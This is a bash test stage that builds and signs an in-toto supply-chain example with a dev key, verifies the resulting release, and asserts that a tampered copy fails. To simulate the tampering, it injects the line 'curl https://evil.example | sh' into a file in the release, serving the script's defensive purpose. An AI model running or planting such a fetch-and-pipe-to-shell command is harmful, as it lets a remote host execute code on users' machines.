#!/usr/bin/env bash
# Stage 30: in-toto supply chain verification. Builds a real two-functionary chain over
# examples/intoto-verify (links recorded with `mc intoto run`, layout signed with the dev key by
# `mc intoto sign`), verifies it with `mc intoto verify` (same flags as in-toto-verify), writes the
# JSON verdict to $OUT/evidence/intoto-verify.json, and asserts that a tampered release fails.
set -euo pipefail
: "${ROOT:?}" "${OUT:?}" "${MC:?}" "${DEV_KEY:?}"
EX="$ROOT/examples/intoto-verify"
W="$OUT/intoto"
VERSION=1.0.0
rm -rf "$W"; mkdir -p "$W/keys" "$W/work" "$W/final/links" "$OUT/evidence"

# functionaries' keys (securesystemslib formats); the layout owner is the dev key
$MC intoto keygen --type ed25519 "$W/keys/builder" >/dev/null
$MC intoto keygen --type ecdsa "$W/keys/packager" >/dev/null

# the functionaries do their work, each step recorded and signed as a link
cp -r "$EX/src" "$W/work/src"
cd "$W/work"
$MC intoto run -q -n build -k "$W/keys/builder" -t ed25519 -m src -p src dist -d "$W/final/links" \
  -- sh -c 'mkdir -p dist && cp src/* dist/ && ls src > dist/MANIFEST'
$MC intoto run -q -n package -k "$W/keys/packager" -t ecdsa -m dist -p "release-$VERSION.tar.gz" -d "$W/final/links" \
  -- tar -czf "release-$VERSION.tar.gz" dist
cp "release-$VERSION.tar.gz" "$W/final/"

# the project owner signs the layout (expires in 30 days)
$MC intoto sign -q -f "$EX/layout.yaml" -k "$DEV_KEY" -t ed25519 \
  --functionary "builder=$W/keys/builder.pub:ed25519" --functionary "packager=$W/keys/packager.pub:ecdsa" \
  --expires "$(date -u -d '+30 days' +%Y-%m-%dT%H:%M:%SZ)" -o "$W/final/root.layout"

# the consumer verifies the final product
cd "$W/final"
$MC intoto verify -l root.layout -k "$ROOT/examples/keys/dev-not-for-production.pub.pem" -t ed25519 \
  --link-dir links --param "VERSION=$VERSION" --report "$OUT/evidence/intoto-verify.json" --summary "$W/summary.md"

# expected failure: a tampered release must not verify (exit 1, naming the rule and the artifact)
cp -r "$W/final" "$W/tampered"
cd "$W/tampered"
mkdir -p x && tar -xzf "release-$VERSION.tar.gz" -C x && echo 'curl https://evil.example | sh' >> x/dist/greeting.txt
tar -czf "release-$VERSION.tar.gz" -C x dist && rm -rf x
set +e
$MC intoto verify -q -l root.layout -k "$ROOT/examples/keys/dev-not-for-production.pub.pem" -t ed25519 \
  --link-dir links --param "VERSION=$VERSION" --report "$W/tampered.json" 2>"$W/tampered.txt"
code=$?
set -e
if [ "$code" -ne 1 ]; then echo "expected the tampered release to fail with exit 1, got $code" >&2; cat "$W/tampered.txt" >&2; exit 1; fi
grep -q "release-$VERSION.tar.gz" "$W/tampered.txt" || { echo "the failure does not name the tampered artifact" >&2; cat "$W/tampered.txt" >&2; exit 1; }
echo "tampered release rejected as expected:"
sed -n '1,4p' "$W/tampered.txt"
